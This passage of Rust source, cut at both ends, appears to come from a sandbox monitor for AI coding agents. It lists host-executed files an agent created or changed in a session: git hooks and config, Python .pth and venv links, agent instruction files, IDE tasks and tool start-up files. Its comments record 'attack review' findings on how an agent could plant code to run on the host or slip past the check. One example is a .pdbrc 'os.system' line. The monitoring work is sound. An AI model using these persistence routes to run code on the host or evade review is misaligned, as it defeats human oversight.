            // baseline does not walk: only what changed in the session ([`data_exec`]).
            None if a.what == DATA_EXEC => Change::Modified,
            // An empty regular file runs and loads nothing. It is also what a placeholder
            // is: one this session made and still leaves because another session locks it
            // (crate::placeholder::end) is not a change of this session's agent.
            None if a.size == 0 && a.mode & libc::S_IFMT == libc::S_IFREG && !is_setid(a.mode) => {
                continue
            }
            // A new Python project file without an init-hook names nothing to run.
            // Nor one named `config` that sets nothing git would run.
            None if by_content(a.what) && a.scripts.as_deref() == Some("") => continue,
            None if a.mode & libc::S_IFMT == libc::S_IFDIR
                && is_placeholder(before, &workspace.join(path), a) =>
            {
                continue
            }
            None => Change::Created,
            // A dead session's empty placeholder, swept and made again by this one's
            // (`crate::placeholder::begin`): a new inode, still empty.
            Some(b)
                if changed(b, a)
                    && is_placeholder(before, &workspace.join(path), a)
                    && is_placeholder(before, &workspace.join(path), b) =>
            {
                continue
            }
            Some(b) if changed(b, a) => Change::Modified,
            Some(_) => continue,
        };
        let what = if a.category == Category::SetId {
            format!("mode {:o}", a.mode & 0o7777)
        } else if is_setid(a.mode) {
            format!("{}, setuid/setgid mode {:o}", a.what, a.mode & 0o7777)
        } else if let Some(t) = a.scripts.as_ref().filter(|_| a.what == HOOKS_LINK) {
            format!("hooks link to {t:?} (git runs the hooks there when this directory is a repository)")
        } else {
            a.what.to_string()
        };
        entries.push(Entry {
            path: shown,
            category: a.category,
            change,
            what,
        });
    }
    entries.extend(venv_entries(&after));
    if let Ok(root) = fsat::open_root(workspace) {
        entries.extend(venv_roots_gone(before, &after, &root));
        entries.extend(links_to_venvs(&after, &root, workspace));
    }
    entries.sort_by(|x, y| x.path.cmp(&y.path));
    Report {
        workspace: workspace.to_path_buf(),
        entries,
        incomplete: before.incomplete || after.incomplete,
        scanned: after.scanned,
        concurrent: Vec::new(),
    }
}

/// What changed in the workspace's Python virtual environments: each program of a `bin/`
/// by itself (what a host hook or shell runs), the rest counted per environment.
fn venv_entries(after: &Snapshot) -> Vec<Entry> {
    let mut out = Vec::new();
    let mut counted: Vec<(PathBuf, usize)> = Vec::new();
    for (rel, is_dir) in &after.venv_changed {
        let Some(root) = after
            .venvs
            .iter()
            .filter(|r| rel.starts_with(r))
            .max_by_key(|r| r.components().count())
        else {
            continue;
        };
        if !is_dir && rel.parent() == Some(root.join("bin").as_path()) {
            out.push(Entry {
                path: rel.clone(),
                category: Category::Env,
                change: Change::Modified,
                what: "Python virtual environment program (a host hook, `source bin/activate` or an IDE runs it)".into(),
            });
            continue;
        }
        match counted.iter_mut().find(|(r, _)| r == root) {
            Some((_, n)) => *n += 1,
            None => counted.push((root.clone(), 1)),
        }
    }
    for (root, n) in counted {
        out.push(Entry {
            path: if root.as_os_str().is_empty() {
                PathBuf::from(".")
            } else {
                root
            },
            category: Category::Env,
            change: Change::Modified,
            what: format!(
                "Python virtual environment: {n} entr{} created or changed in it (modules and files its interpreter loads when the host runs it)",
                if n == 1 { "y" } else { "ies" }
            ),
        });
    }
    out
}

/// The baseline's virtual environments that are no longer real directories holding
/// `pyvenv.cfg` at their path: replaced by a link or another directory, or removed (what is
/// at the path now runs as their programs; attack review 98: `.venv` made a link).
fn venv_roots_gone(before: &Snapshot, after: &Snapshot, root: &std::os::fd::OwnedFd) -> Vec<Entry> {
    let mut out = Vec::new();
    for v in &before.venvs {
        let cfg = v.join("pyvenv.cfg");
        let intact = fsat::open_file(root.as_fd(), &cfg, libc::O_PATH, None).is_ok();
        if intact && after.venvs.contains(v) {
            continue;
        }
        out.push(Entry {
            path: if v.as_os_str().is_empty() { PathBuf::from(".") } else { v.clone() },
            category: Category::Env,
            change: Change::Modified,
            what: "Python virtual environment replaced, moved away or removed (whatever is at its path now runs as its programs: check it is not a link)".into(),
        });
    }
    out
}

/// Links made in the session that name a virtual environment in the workspace (resolved
/// beneath it, no further link followed), wherever the walk could not look.
fn links_to_venvs(after: &Snapshot, root: &std::os::fd::OwnedFd, workspace: &Path) -> Vec<Entry> {
    let mut out = Vec::new();
    for (link, target) in &after.new_links {
        let Some(target) = target else {
            out.push(Entry {
                path: link.clone(),
                category: Category::Env,
                change: Change::Created,
                what: "link made in the session whose target could not be read".into(),
            });
            continue;
        };
        // Lexically, beneath the workspace (a relative target is relative to the link's
        // directory, already joined; an absolute one must lie inside).
        let abs = warden_policy::normalize(&workspace.join(target));
        let Ok(t) = abs.strip_prefix(workspace) else {
            continue;
        };
        let cfg = t.join("pyvenv.cfg");
        if fsat::open_file(root.as_fd(), &cfg, libc::O_PATH, None).is_ok() {
            out.push(Entry {
                path: link.clone(),
                category: Category::Env,
                change: Change::Created,
                what: format!(
                    "link to a Python virtual environment at {} (its programs and modules, which this report does not list, run through it)",
                    t.display()
                ),
            });
        }
    }
    out
}

/// `path` is one of this session's placeholders and, as `st` saw it, empty: a regular file
/// of size 0, or a directory with no entry now.
fn is_placeholder(before: &Snapshot, path: &Path, st: &Stamp) -> bool {
    if !before.placeholders.iter().any(|p| p == path) {
        return false;
    }
    match st.mode & libc::S_IFMT {
        libc::S_IFREG => st.size == 0,
        libc::S_IFDIR => std::fs::read_dir(path).is_ok_and(|mut d| d.next().is_none()),
        _ => false,
    }
}

/// A regular file with a setuid or setgid bit.
fn is_setid(mode: u32) -> bool {
    mode & libc::S_IFMT == libc::S_IFREG && mode & (libc::S_ISUID | libc::S_ISGID) != 0
}

fn changed(b: &Stamp, a: &Stamp) -> bool {
    if by_content(b.what) && a.what == b.what {
        // Scripts read both times decide; otherwise the stamp does.
        if let (Some(x), Some(y)) = (&b.scripts, &a.scripts) {
            return x != y;
        }
    }
    (b.dev, b.ino, b.mode, b.size, b.mtime, b.ctime)
        != (a.dev, a.ino, a.mode, a.size, a.mtime, a.ctime)
}

/// What stays the same through one walk.
struct Walk<'a> {
    root: &'a std::os::fd::OwnedFd,
    dev: u64,
    /// Stat every file (see [`walk_root`]).
    all: bool,
    /// Shared with a second thread: directories handed over while it waits.
    queue: Option<&'a Queue>,
    /// Entries listed by every thread of the walk (bounded by [`MAX_ENTRIES`] together).
    listed: std::sync::atomic::AtomicU64,
    /// The end's walk: what it looks for in virtual environments.
    venv: Option<&'a VenvCheck<'a>>,
}

/// A directory still to walk: at `rel`, `depth` levels down, inside a git dir or not, with
/// the [`ancestry`] bits of its path.
struct Job {
    /// The directory, opened from its parent's fd (None: the root, opened from `root`).
    dir: Option<std::os::fd::OwnedFd>,
    rel: PathBuf,
    depth: usize,
    in_git: bool,
    anc: u8,
}

/// The directories handed between the walk's threads, and how many threads are walking.
/// A thread walks depth first from parent fds and hands a subdirectory over, opened, only
/// when the queue is empty (the other thread may be waiting): the queue holds at most a
/// directory per thread, and a handed-over one is never resolved again by path (a path
/// longer than PATH_MAX could not be; attack review 67).
#[derive(Default)]
struct Queue {
    state: std::sync::Mutex<(Vec<Job>, usize)>,
    ready: std::sync::Condvar,
}

impl Queue {
    fn lock(&self) -> std::sync::MutexGuard<'_, (Vec<Job>, usize)> {
        self.state.lock().unwrap_or_else(|e| e.into_inner())
    }

    fn hungry(&self) -> bool {
        self.lock().0.is_empty()
    }

    fn push(&self, j: Job) {
        self.lock().0.push(j);
        self.ready.notify_one();
    }

    /// The next directory, or None once the queue is empty and no thread walks (no more
    /// can come).
    fn next(&self) -> Option<Job> {
        let mut g = self.lock();
        loop {
            if let Some(j) = g.0.pop() {
                g.1 += 1;
                return Some(j);
            }
            if g.1 == 0 {
                self.ready.notify_all();
                return None;
            }
            g = self.ready.wait(g).unwrap_or_else(|e| e.into_inner());
        }
    }

    fn done(&self) {
        let mut g = self.lock();
        g.1 -= 1;
        if g.1 == 0 {
            self.ready.notify_all();
        }
    }
}

/// Walks the workspace from `root`. The end's walk (`all`) stats every file and runs on two
/// threads where the machine has two cores (nothing else of the session runs then); the
/// baseline's runs on one (init walks the workspace at the same time).
fn walk(
    root: &std::os::fd::OwnedFd,
    dev: u64,
    all: bool,
    two: bool,
    venv: Option<&VenvCheck<'_>>,
    s: &mut Snapshot,
) {
    let two = two && all && std::thread::available_parallelism().is_ok_and(|n| n.get() > 1);
    walk_on(root, dev, all, two, venv, s);
}

/// Entries the baseline walk listed from which the end's walk takes a second thread: its
/// start and join (~0.1 ms here, most of it waking the other CPU) pay off only in a tree
/// larger than a small workspace.
const TWO_THREADS_FROM: u64 = 2000;

fn walk_on(
    root: &std::os::fd::OwnedFd,
    dev: u64,
    all: bool,
    two: bool,
    venv: Option<&VenvCheck<'_>>,
    s: &mut Snapshot,
) {
    let first = Job {
        dir: None,
        rel: PathBuf::new(),
        depth: 0,
        in_git: false,
        anc: 0,
    };
    if !two {
        let w = Walk {
            root,
            dev,
            all,
            queue: None,
            listed: Default::default(),
            venv,
        };
        walk_job(&w, first, s);
        return;
    }
    let q = Queue::default();
    q.push(first);
    let w = Walk {
        root,
        dev,
        all,
        queue: Some(&q),
        listed: Default::default(),
        venv,
    };
    let work = |s: &mut Snapshot| {
        while let Some(j) = q.next() {
            walk_job(&w, j, s);
            q.done();
        }
    };
    let mut other = Snapshot::default();
    std::thread::scope(|sc| {
        // Without a second thread this one walks it all.
        let h = std::thread::Builder::new()
            .name("warden-integrity".into())
            .spawn_scoped(sc, || work(&mut other));
        work(s);
        if let Ok(h) = h {
            let _ = h.join();
        }
    });
    s.files.extend(other.files);
    s.scanned += other.scanned;
    s.incomplete |= other.incomplete;
    s.venvs.extend(other.venvs);
    s.venv_changed.extend(other.venv_changed);
    s.new_links.extend(other.new_links);
}

fn walk_job(w: &Walk<'_>, j: Job, s: &mut Snapshot) {
    let dir = match j.dir {
        Some(d) => d,
        None => match fsat::open_dir(w.root.as_fd(), &j.rel, false, Some(w.dev)) {
            Ok(d) => d,
            Err(_) => {
                s.incomplete = true;
                return;
            }
        },
    };
    walk_dir(w, &dir, &j.rel, j.depth, j.in_git, j.anc, s);
}

/// Walks the directory `dir` (opened and checked, at `rel`): each subdirectory is opened
/// from its parent's fd by its single name (`RESOLVE_BENEATH | RESOLVE_NO_SYMLINKS`), so a
/// level costs one short lookup, not a resolution of the whole path from the root. `anc`:
/// the [`ancestry`] bits of `rel`'s components.
fn walk_dir(
    w: &Walk<'_>,
    dir: &std::os::fd::OwnedFd,
    rel: &Path,
    depth: usize,
    in_git: bool,
    anc: u8,
    s: &mut Snapshot,
) {
    use std::sync::atomic::Ordering::Relaxed;
    if depth > MAX_DEPTH || w.listed.load(Relaxed) > MAX_ENTRIES {
        s.incomplete = true;
        return;
    }
    let Ok(typed) = fsat::list_typed(dir.as_fd()) else {
        s.incomplete = true;
        return;
    };
    w.listed.fetch_add(typed.len() as u64, Relaxed);
    s.scanned += typed.len() as u64;
    let has = |n: &str| typed.iter().any(|(x, _)| x == n);
    let gitlike = in_git
        || rel.file_name() == Some(OsStr::new(".git"))
        || (has("HEAD") && (has("objects") || has("commondir")))
        || bare_shaped(&typed);
    // A Python virtual environment: its programs and modules are the host's too (a hook
    // `.venv/bin/python x.py`, `source .venv/bin/activate`, an IDE's interpreter). Every
    // entry in it is compared by its inode's change time, which a write, `rename`, `link`
    // and `chmod` all set on what they touch (a directory moved in has its own set).
    let venv_root = has("pyvenv.cfg") || w.venv.is_some_and(|v| v.roots.iter().any(|r| r == rel));
    if venv_root {
        s.venvs.push(rel.to_path_buf());
    }
    let anc = anc | if venv_root { ANC_VENV } else { 0 };
    let venv = w.venv.filter(|_| anc & ANC_VENV != 0);
    if let Some(v) = venv {
        match fsat::fstat(dir.as_fd()) {
            Ok(st) if (st.st_ctime, st.st_ctime_nsec) < v.since => {}
            _ => s.venv_changed.push((rel.to_path_buf(), true)),
        }
    }
    let parent = rel.file_name().map(|n| n.as_bytes()).unwrap_or(b"");
    let sub = |name: &OsStr, s: &mut Snapshot| {
        if gitlike && GIT_BULK.iter().any(|b| name == *b) && bulk_unwalked(rel) {
            return;
        }
        let (child, anc) = (rel.join(name), anc | ancestry(name.as_bytes()));
        // (open_dir checks it is a real directory on the same device.)
        let Ok(d) = fsat::open_dir(dir.as_fd(), Path::new(name), false, Some(w.dev)) else {
            s.incomplete = true;
            return;
        };
        match w.queue.filter(|q| q.hungry()) {
            Some(q) => q.push(Job {
                dir: Some(d),
                rel: child,
                depth: depth + 1,
                in_git: gitlike,
                anc,
            }),
            None => walk_dir(w, &d, &child, depth + 1, gitlike, anc, s),
        }
    };
    for (name, dt) in &typed {
        if *dt == fsat::DT_DIR {
            sub(name, s);
            continue;
        }
        let named = classify_entry(
            name.as_bytes(),
            parent,
            anc | ancestry(name.as_bytes()),
            gitlike,
        );
        if !w.all && named.is_none() && *dt != fsat::DT_UNKNOWN {
            continue;
        }
        let Ok(st) = fsat::lstat_at(dir.as_fd(), name) else {
            continue;
        };
        let fmt = st.st_mode & libc::S_IFMT;
        if fmt == libc::S_IFDIR {
            if st.st_dev == w.dev {
                sub(name, s);
            }
            continue;
        }
        if let Some(v) = venv.filter(|_| named.is_none()) {
            if (st.st_ctime, st.st_ctime_nsec) >= v.since {
                s.venv_changed.push((rel.join(name), false));
            }
        }
        // A link made in the session: `.venv -> .git/objects/v` runs what the walk skips
        // (attack review 98).
        if let Some(v) = w.venv {
            if fmt == libc::S_IFLNK && (st.st_ctime, st.st_ctime_nsec) >= v.since {
                // (One whose target cannot be read is reported as such.)
                let t = fsat::readlink_at(dir.as_fd(), name)
                    .ok()
                    .map(|t| rel.join(t));
                s.new_links.push((rel.join(name), t));
            }
        }
        let setid = is_setid(st.st_mode);
        // The name first: a set-id file at a hook's or a Makefile's path is that (and is
        // stamped by the names-only baseline); SetId is for set-id files no name covers.
        let class = named.or(setid.then_some((Category::SetId, "setuid/setgid")));
        let Some((category, what)) = class else {
            continue;
        };
        let child = rel.join(name);
        let mut what = what;
        let mut scripts = None;
        if what == "package.json" {
            what = "package.json scripts";
            scripts = package_scripts(dir.as_fd(), name, w.dev);
        } else if what == INIT_HOOK {
            scripts = init_hook(dir.as_fd(), name, w.dev);
        } else if what == HOOKS_LINK && fmt == libc::S_IFLNK {
            scripts = fsat::readlink_at(dir.as_fd(), name)
                .ok()
                .map(|t| t.to_string_lossy().into_owned());
        } else if what == LOOSE_CONFIG {
            scripts = read_small(dir.as_fd(), name, w.dev)
                .map(|raw| crate::guard::active_config_entries(&String::from_utf8_lossy(&raw)));
        }
        s.files.insert(child, stamp(&st, category, what, scripts));
    }
}

/// The whole of the regular file `name` in `dir` (no link followed, on `dev`), when it is
/// at most [`MAX_JSON`] bytes; None otherwise (the stamp decides then).
fn read_small(dir: BorrowedFd<'_>, name: &OsStr, dev: u64) -> Option<Vec<u8>> {
    let f = fsat::open_file(dir, Path::new(name), libc::O_RDONLY, Some(dev)).ok()?;
    let raw = fsat::read_to_vec(f.as_fd(), MAX_JSON + 1).ok()?;
    (raw.len() <= MAX_JSON).then_some(raw)
}

/// [`INIT_HOOK`]'s text of `name` in `dir`: the whole file when it mentions `init-hook`
/// (however spelled), else empty; None when it cannot be read whole (the stamp decides).
fn init_hook(dir: BorrowedFd<'_>, name: &OsStr, dev: u64) -> Option<String> {
    let raw = read_small(dir, name, dev)?;
    let text = String::from_utf8_lossy(&raw).into_owned();
    let lower = text.to_ascii_lowercase();
    // TOML spells a key with escapes too (`"init\u002dhook"`: attack review 98): the keys
    // as parsed count, and a file that does not parse is compared whole.
    let hooked = lower.contains("init-hook")
        || lower.contains("init_hook")
        || (name == "pyproject.toml"
            && text
                .parse::<toml::Table>()
                .map_or(true, |t| toml_has_key(&t, &["init-hook", "init_hook"])));
    Some(if hooked { text } else { String::new() })
}

/// Whether a key among `keys` (ASCII case ignored) is anywhere in `t`.
fn toml_has_key(t: &toml::Table, keys: &[&str]) -> bool {
    t.iter().any(|(k, v)| {
        keys.iter().any(|x| k.eq_ignore_ascii_case(x))
            || match v {
                toml::Value::Table(t) => toml_has_key(t, keys),
                toml::Value::Array(a) => a.iter().any(|v| match v {
                    toml::Value::Table(t) => toml_has_key(t, keys),
                    _ => false,
                }),
                _ => false,
            }
    })
}

/// The `scripts` of a package.json (`name` in the directory `dir`), canonical (or the whole
/// text when it does not parse); None when it cannot be read whole (the stamp decides).
fn package_scripts(dir: BorrowedFd<'_>, name: &OsStr, dev: u64) -> Option<String> {
    let raw = read_small(dir, name, dev)?;
    // The keys whose values are commands: npm's scripts, and what git hook managers run
    // (lint-staged, husky's v4 hooks, simple-git-hooks, pre-commit; attack review 99).
    Some(match serde_json::from_slice::<serde_json::Value>(&raw) {
        Ok(v) => [
            "scripts",
            "lint-staged",
            "husky",
            "simple-git-hooks",
            "pre-commit",
            "gitHooks",
        ]
        .iter()
        .filter_map(|k| v.get(k).map(|x| format!("{k}={x}")))
        .collect::<Vec<_>>()
        .join("\n"),
        Err(_) => String::from_utf8_lossy(&raw).into_owned(),
    })
}

/// A directory holding a `config` file and a `hooks` directory (or link): what a host's
/// `git init --bare` there keeps as its configuration and hooks (attack review 118, F3). The
/// guard cannot empty it (it is also what many projects look like), so the report lists
/// what the session made or changed in it.
fn bare_shaped(typed: &[(OsString, u8)]) -> bool {
    let is = |n: &str, types: &[u8]| {
        typed
            .iter()
            .any(|(x, t)| x == n && (types.contains(t) || *t == fsat::DT_UNKNOWN))
    };
    is("config", &[fsat::DT_REG]) && is("hooks", &[fsat::DT_DIR, libc::DT_LNK])
}

/// Whether a (non-directory) file at `rel` is one a host tool executes or loads.
pub fn classify(rel: &Path, in_git: bool) -> Option<(Category, &'static str)> {
    let name = rel.file_name()?.as_bytes();
    let parent = rel
        .parent()
        .and_then(|p| p.file_name())
        .map(|n| n.as_bytes())
        .unwrap_or(b"");
    let anc = rel
        .components()
        .fold(0, |a, c| a | ancestry(c.as_os_str().as_bytes()));
    classify_entry(name, parent, anc, in_git)
}

/// Directory names that make everything below them one category, as bits: agent settings
/// (`.claude`, ...), IDE configuration, hooks directories.
const ANC_AGENT: u8 = 1;
const ANC_IDE: u8 = 2;
const ANC_HOOKS: u8 = 4;
/// Not a name's: set below a directory holding `pyvenv.cfg` (see `walk_dir`).
const ANC_VENV: u8 = 8;

fn ancestry(name: &[u8]) -> u8 {
    match name {
        // `.agents`: skills shared by agents (`.agents/skills/*/SKILL.md`; attack review 76).
        // Other agents' project settings (hooks, MCP servers, rules; attack review 95 named
        // the ones no list had).
        b".claude" | b".codex" | b".gemini" | b".cursor" | b".agents" | b".qwen" | b".kiro"
        | b".opencode" | b".windsurf" | b".continue" | b".roo" | b".amazonq" => ANC_AGENT,
        // Editors' project configuration: tasks and language servers are commands.
        b".vscode" | b".idea" | b".devcontainer" | b".zed" | b".helix" | b".fleet" => ANC_IDE,
        b".husky" | b".githooks" => ANC_HOOKS,
        _ => 0,
    }
}

/// [`classify`] of the entry `name` in the directory `parent`, with `anc` the [`ancestry`]
/// bits of every component of its path (its own name included).
fn classify_entry(
    name: &[u8],
    parent: &[u8],
    anc: u8,
    in_git: bool,
) -> Option<(Category, &'static str)> {
    // Inside a git dir (or what looks like one: entries named `HEAD` and `objects`, which
    // the agent can make anywhere), git's names first, then every other name as well: a
    // fake git dir must not hide a Makefile (attack review 67).
    if in_git {
        let git = match name {
            b"config" | b"config.worktree" => Some((Category::Git, "git config")),
            b"commondir" | b"gitdir" => Some((Category::Git, "git indirection")),
            b"attributes" if parent == b"info" => Some((Category::Git, "git attributes")),
            // A paused `rebase -i` / cherry-pick: `exec` lines in the todo run on the host's
            // `git rebase --continue` (and `git status` shows only the next two).
            b"git-rebase-todo" | b"done" if parent == b"rebase-merge" => Some((
                Category::Git,
                "paused rebase todo (its exec lines run on --continue)",
            )),
            b"todo" if parent == b"sequencer" => Some((
                Category::Git,
                "paused sequencer todo (its exec lines run on --continue)",
            )),
            _ if parent == b"hooks" && !name.ends_with(b".sample") => {
                Some((Category::Git, "git hook"))
            }
            _ => None,
        };
        if git.is_some() {
            return git;
        }
    }
    match name {
        b".git" => return Some((Category::Git, "gitdir file")),
        b".gitmodules" => return Some((Category::Git, "submodule config")),
        b".gitattributes" => return Some((Category::Git, "git attributes")),
        // git-lfs reads it for every repository operation (lfs.url, custom transfer agents).
        b".lfsconfig" => return Some((Category::Git, "git-lfs config")),
        _ => {}
    }
    if anc & ANC_AGENT != 0 {
        return Some((Category::Agent, "agent settings"));
    }
    match name {
        b".mcp.json" => return Some((Category::Agent, "MCP servers")),
        b"opencode.json" | b"opencode.jsonc" | b".aider.conf.yml" | b".clinerules"
        | b".roomodes" => return Some((Category::Agent, "agent settings")),
        // Neovim's project-local configuration (run with `exrc` set) and lazy.nvim's.
        b".nvim.lua" | b".nvimrc" | b".exrc" | b".lazy.lua" | b".lvimrc" => {
            return Some((Category::Ide, "editor configuration"))
        }
        // What `.vscode/` and `.devcontainer/` hold under other names (attack review 101 E2):
        // a root `.devcontainer.json` (its `initializeCommand` runs on the host when the
        // folder is reopened in a container), a `*.code-workspace` file (settings and tasks,
        // `runOn: folderOpen` included), Emacs' directory variables (`eval` forms).
        b".devcontainer.json" => return Some((Category::Ide, "dev container configuration")),
        b".dir-locals.el" | b".dir-locals-2.el" => {
            return Some((Category::Ide, "editor configuration"))
        }
        _ if name.ends_with(b".code-workspace") => {
            return Some((Category::Ide, "VS Code workspace (settings and tasks)"))
        }
        // `AGENTS.override.md`: Codex reads it instead of `AGENTS.md` beside it, with no
        // project trust (attack review 79).
        b"CLAUDE.md" | b"CLAUDE.local.md" | b"AGENTS.md" | b"AGENTS.override.md" | b"GEMINI.md" => {
            return Some((Category::Agent, "agent instructions"))
        }
        _ => {}
    }
    if anc & ANC_IDE != 0 {
        return Some((Category::Ide, "IDE configuration"));
    }
    if anc & ANC_HOOKS != 0 {
        return Some((Category::Build, "hooks directory"));
    }
    match name {
        b".envrc" | b"mise.toml" | b".mise.toml" | b".tool-versions" => {
            Some((Category::Env, "environment loader"))
        }
        // Gemini CLI loads a trusted folder's `.env` (found from where it runs, upwards) into
        // its own environment and every child's: `NODE_OPTIONS`, `BASH_ENV` (attack review 76).
        // An app's file the agent may edit, so reported rather than locked.
        b".env" => Some((
            Category::Env,
            ".env (Gemini CLI loads it into its environment)",
        )),
        b"config" | b"config.toml" if parent == b".cargo" => {
            Some((Category::Build, "cargo config"))
        }
        b"rust-toolchain" | b"rust-toolchain.toml" => Some((Category::Build, "toolchain override")),
        b".npmrc" | b".yarnrc" | b".yarnrc.yml" | b".pnpmfile.cjs" => {
            Some((Category::Build, "package-manager config"))
        }
        b"package.json" => Some((Category::Build, "package.json")),
        b"Makefile" | b"makefile" | b"GNUmakefile" => Some((Category::Build, "Makefile")),
        b".pre-commit-config.yaml" => Some((Category::Build, "pre-commit config")),
        // Run by an installed lefthook git hook: `lefthook.yml`, `.lefthook.yml`,
        // `lefthook-local.yml` (and .yaml/.toml/.json).
        _ if is_lefthook_config(name) => Some((Category::Build, "lefthook config")),
        b"extensions.xml" | b"jvm.config" | b"maven.config" if parent == b".mvn" => {
            Some((Category::Build, "maven config"))
        }
        b"gradle.properties" => Some((Category::Build, "gradle properties")),
        b"gradle-wrapper.properties" => Some((Category::Build, "gradle wrapper")),
        b"config" if parent == b".bundle" => Some((Category::Build, "bundler config")),
        // What a tool started in the project runs or obeys before anything else (attack
        // review 97: a `.pdbrc` line `!import os; os.system(...)` ran at the host's next
        // `python3 -m pdb`, `breakpoint()` or `pytest --pdb`; pylint's `init-hook` runs at
        // an editor's lint-on-open).
        b".pdbrc" | b".pylintrc" | b"pylintrc" | b".Rprofile" | b".Renviron" | b".irbrc"
        | b".pryrc" | b".ghci" | b".ocamlinit" | b".perldb" | b".gdbinit" | b".lldbinit"
        | b".jvmopts" | b".sbtopts" | b".bazelrc" | b"bunfig.toml" | b".noderc"
        | b".pylintrc.toml" | b"pylintrc.toml" | b"user.bazelrc"
        // Attack review 103: `\!` in psql, `.shell` in sqlite, `exec` in screen, provider
        // installation in terraform, bun's preload, ansible's vault password script,
        // mongosh's start-up script, gem's options.
        | b".psqlrc" | b".sqliterc" | b".screenrc" | b".terraformrc" | b".bunfig.toml"
        | b"ansible.cfg" | b".ansible.cfg" | b".mongoshrc.js" | b".mongorc.js" | b".gemrc"
        | b".myclirc" => Some((
            Category::Build,
            "tool start-up file (run by the tool started here)",
        )),
        b"hgrc" if parent == b".hg" => Some((Category::Build, "mercurial config (hooks)")),
        // Run by a git hook (`npx lint-staged` in `.husky/pre-commit`; attack review 99).
        _ if name == b".lintstagedrc"
            || name.starts_with(b".lintstagedrc.")
            || name.starts_with(b"lint-staged.config.") =>
        {
            Some((Category::Build, "lint-staged config (run by a git hook)"))
        }
        b"pyproject.toml" | b"setup.cfg" | b"tox.ini" => Some((Category::Build, INIT_HOOK)),
        // What a Python interpreter runs or obeys at every start, before any script: a
        // site-packages `*.pth` (its `import` lines run), `sitecustomize`/`usercustomize`,
        // and a virtual environment's `pyvenv.cfg` (its `home` picks the standard library).
        // A workspace venv is the host's too (attack review 95: a `.pth` planted in a
        // gitignored `.venv` ran at the host's next `.venv/bin/python`).
        // Any form of the module (`.py`, bytecode, an extension, a package: review 96), and
        // `<interpreter>._pth` beside an interpreter, which replaces `sys.path`.
        b"pyvenv.cfg" => Some((
            Category::Env,
            "Python start-up file (runs at every interpreter start)",
        )),
        _ if name.starts_with(b"sitecustomize.")
            || name.starts_with(b"usercustomize.")
            || parent == b"sitecustomize"
            || parent == b"usercustomize" =>
        {
            Some((
                Category::Env,
                "Python start-up file (runs at every interpreter start)",
            ))
        }
        _ if name.ends_with(b"._pth") => Some((
            Category::Env,
            "Python ._pth file (replaces the interpreter's module path)",
        )),
        _ if name.ends_with(b".pth") => Some((
            Category::Env,
            "Python .pth file (its import lines run at every interpreter start)",
        )),
        // `config.worktree` too: read with `extensions.worktreeConfig`, an inert-looking key
        // (attack review 120, F2).
        b"config" | b"config.worktree" => Some((Category::Git, LOOSE_CONFIG)),
        // Where git takes config and hooks from, in a directory it is told is a git dir.
        b"commondir" => Some((Category::Git, "git indirection (commondir)")),
        b"hooks" => Some((Category::Git, HOOKS_LINK)),
        _ if parent == b"hooks" && GIT_HOOK_NAMES.contains(&name) => Some((
            Category::Git,
            "file named as a git hook (a host's git init here runs it)",
        )),
        _ => None,
    }
}

/// A Python project file compared by its pylint `init-hook` (Python pylint runs at every
/// start): the whole text when it names one, nothing otherwise.
const INIT_HOOK: &str = "pylint init-hook";

/// A file named `config` outside any git dir, compared by the git settings in it that run
/// or redirect something ([`crate::guard::active_config_entries`]): a host's `git init
/// --bare` there, or `git --git-dir` naming the directory, obeys it (attack review 119, F1).
/// One that cannot be read whole (a symlink, a large file) is compared by its stamp.
const LOOSE_CONFIG: &str =
    "git configuration outside a repository (a host's git init there obeys it)";

/// A non-directory named `hooks`: a symlink's target is where git looks for hooks when the
/// directory beside it becomes a repository (attack review 119, F2); the report names it.
const HOOKS_LINK: &str = "hooks link";

/// The names git runs as hooks (githooks(5)), reported in any directory named `hooks`: a
/// host's `git init` there keeps them (attack review 119, F1). Other files in such a
/// directory (a web project's `src/hooks/useThing.ts`) are not git's.
const GIT_HOOK_NAMES: &[&[u8]] = &[
    b"applypatch-msg",
    b"pre-applypatch",
    b"post-applypatch",
    b"pre-commit",
    b"pre-merge-commit",
    b"prepare-commit-msg",
    b"commit-msg",
    b"post-commit",
    b"pre-rebase",
    b"post-checkout",
    b"post-merge",
    b"pre-push",
    b"pre-receive",
    b"update",
    b"proc-receive",
    b"post-receive",
    b"post-update",
    b"reference-transaction",
    b"push-to-checkout",
    b"pre-auto-gc",
    b"post-rewrite",
    b"sendemail-validate",
    b"fsmonitor-watchman",
    b"p4-changelist",
    b"p4-prepare-changelist",
    b"p4-post-changelist",
    b"p4-pre-submit",
    b"post-index-change",
];

/// Stamps compared by what the file says (see [`changed`]), not by its inode.
fn by_content(what: &str) -> bool {
    what == "package.json scripts" || what == INIT_HOOK || what == LOOSE_CONFIG
}

/// `lefthook.yml`, `.lefthook.yml`, `lefthook-local.yml`, `.lefthook-local.yml`, with the
/// extensions lefthook reads (`yml`, `yaml`, `toml`, `json`).
fn is_lefthook_config(name: &[u8]) -> bool {
    let name = name.strip_prefix(b".").unwrap_or(name);
    let stem = name
        .strip_prefix(b"lefthook-local")
        .or_else(|| name.strip_prefix(b"lefthook"));
    matches!(stem, Some(b".yml" | b".yaml" | b".toml" | b".json"))
}

impl Report {
    /// Printed on stderr at the end of `warden run` (empty when nothing to report). Paths are
    /// shown through [`warden_event::text::printable`].
    pub fn render(&self) -> String {
        use std::fmt::Write;
        let mut s = String::new();
        if !self.entries.is_empty() {
            let _ = writeln!(
                s,
                "warden: integrity: {} file(s) that host tools run or load were created or changed in this session (review before running git, your IDE, make, npm, direnv or your agent on the host):",
                self.entries.len()
            );
            // What the agent's next session obeys or git runs first, then the rest; a flood
            // of decoys cannot push those off the screen (attack review 79: 3,000 lines).
            let mut shown: Vec<&Entry> = self.entries.iter().collect();
            shown.sort_by_key(|e| e.category.rank());
            let more = shown.len().saturating_sub(MAX_SHOWN);
            shown.truncate(MAX_SHOWN);
            for e in shown {
                let _ = writeln!(
                    s,
                    "  {:<8} {}  ({}: {})",
                    match e.change {
                        Change::Created => "created",
                        Change::Modified => "changed",
                    },
                    // The agent chose the name: escaped, so it cannot draw over this report,
                    // set the clipboard (OSC 52) or forge a line.
                    warden_event::text::printable_path(&e.path),
                    e.category.label(),
                    e.what
                );
            }
            if more > 0 {
                let _ = writeln!(
                    s,
                    "  … and {more} more (listed by category: agent settings and git first; `warden log --json` has every one)"
                );
            }
        }
        if !self.concurrent.is_empty() {
            let _ = writeln!(
                s,
                "warden: integrity: {} other warden session(s) could write in this workspace at the same time (supervisor pid {:?}): their changes are not told apart from this one's, and files they moved during the walk may be missing from this report",
                self.concurrent.len(),
                self.concurrent
            );
        }
        if self.incomplete {
            let _ = writeln!(
                s,
